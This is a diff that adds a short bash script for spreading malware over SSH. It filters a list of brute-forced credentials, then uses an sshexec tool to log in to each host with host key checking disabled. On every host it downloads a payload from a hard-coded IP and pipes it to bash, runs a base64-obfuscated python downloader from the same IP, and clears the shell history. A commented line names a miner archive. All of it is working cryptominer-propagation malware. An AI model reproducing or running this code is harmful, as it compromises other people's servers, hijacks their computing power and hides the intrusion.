@@ -1,0 +1,6 @@
+#!/bin/bash
+sed -i 's/:/ /g' /tmp/sparte.txt
+cat /tmp/sparte.txt | grep -v 'KB received\|wrong\|fuck\|sssus\|seconds' | sort -u > /tmp/vulnchecks
+
+#RSAKEY="no" BatchMode="no" SCP="no" SCPFILE="/tmp/miner.tar.gz" SCPPATH="/tmp" CMD="wget -q -O - http://205.185.113.151/xmi | bash -sh; curl -fsSL http://205.185.113.151/xmi | bash -sh; lwp-download http://205.185.113.151/xmi /tmp/xmi; bash /tmp/xmi; rm -rf /tmp/xmi; echo cHl0aG9uIC1jICdpbXBvcnQgdXJsbGliO2V4ZWModXJsbGliLnVybG9wZW4oImh0dHA6Ly8yMDUuMTg1LjExMy4xNTEvZC5weSIpLnJlYWQoKSkn | base64 -d | bash -; history -c" PORT="22" UserKnownHostsFile="/dev/null" ConnectTimeout="10" StrictHostKeyChecking="no" Format="USER PASS IP" /tmp/sshexec /tmp/vulnchecks
+RSAKEY="no" BatchMode="no" SCP="no" ExecSpeed="yes" CMD="wget -q -O - http://205.185.113.151/xmi | bash -sh; curl -fsSL http://205.185.113.151/xmi | bash -sh; lwp-download http://205.185.113.151/xmi /tmp/xmi; bash /tmp/xmi; rm -rf /tmp/xmi; echo cHl0aG9uIC1jICdpbXBvcnQgdXJsbGliO2V4ZWModXJsbGliLnVybG9wZW4oImh0dHA6Ly8yMDUuMTg1LjExMy4xNTEvZC5weSIpLnJlYWQoKSkn | base64 -d | bash -; history -c" PORT="22" UserKnownHostsFile="/dev/null" ConnectTimeout="10" StrictHostKeyChecking="no" Format="USER PASS IP" /tmp/sshexec /tmp/vulnchecks
